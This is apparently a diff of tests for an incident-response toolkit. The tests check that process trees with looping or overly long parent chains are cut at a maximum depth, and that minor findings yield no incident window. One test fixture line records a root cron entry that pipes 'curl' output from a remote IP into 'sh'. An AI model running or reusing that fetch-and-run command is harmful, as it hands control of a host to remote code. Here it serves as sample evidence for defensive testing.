@@ -3,6 +3,7 @@
 import json
 import re
 from pathlib import Path
+from typing import Any
 
 from irkit.evidence.reader import BundleReader
 from irkit.evidence.records import Finding
@@ -17,7 +18,7 @@ from irkit.report.html import (
     script_json,
     write_report_member,
 )
-from irkit.report.incident import build_incident
+from irkit.report.incident import MAX_DEPTH, build_incident
 from irkit.report.summary import summarize
 from tests.reportbundles import (
     SCRIPT_TITLE,
@@ -171,3 +172,39 @@ def test_the_incident_joins_each_finding_to_the_records_it_names() -> None:
     assert evidence["cron persistence: /etc/crontab:12"] == [
         ("cron line /etc/crontab:12", "*/5 * * * * root curl -fsSL http://203.0.113.7/x.sh | sh")
     ]
+
+
+def test_a_parent_loop_or_an_endless_chain_ends_in_a_root() -> None:
+    """Parent links are the host's word: 10 ↔ 11 claim each other, 200 sits under a chain of
+    100 ancestors. Each still ends at a root, and the report is built."""
+    looped = [process(10, 11, "a", ["a"]), process(11, 10, "b", ["b"])]
+    chain = [process(100 + i, 100 + i - 1, f"p{i}", [f"p{i}"]) for i in range(1, 101)]
+    records = {"records/processes.jsonl": looped + chain}
+    records["records/findings.jsonl"] = [
+        Finding(title=f"miner {pid}", severity="high", source="test", pid=pid) for pid in (10, 200)
+    ]
+    view = view_from_parts(records)
+    summary = summarize([view])
+    [(_host, roots)] = build_incident([view], summary.findings).trees
+
+    def depth(node: Any) -> int:
+        return 1 + max((depth(child) for child in node.children), default=0)
+
+    assert {root.pid for root in roots} == {11, 200 - MAX_DEPTH + 1}
+    assert all(depth(root) <= MAX_DEPTH for root in roots)
+    assert "miner 200" in build_report([view]).decode()
+
+
+def test_without_a_serious_finding_there_is_no_window_and_no_tree() -> None:
+    view = view_from_parts(
+        {
+            "records/processes.jsonl": [process(5, 1, "cron", ["cron"])],
+            "records/findings.jsonl": [
+                Finding(title="noted", severity="low", source="test", pid=5, time="2026-01-01")
+            ],
+        }
+    )
+    data = embedded_data(build_report([view]).decode())
+    assert data["incident_window"] is None
+    summary = summarize([view])
+    assert build_incident([view], summary.findings).trees == []
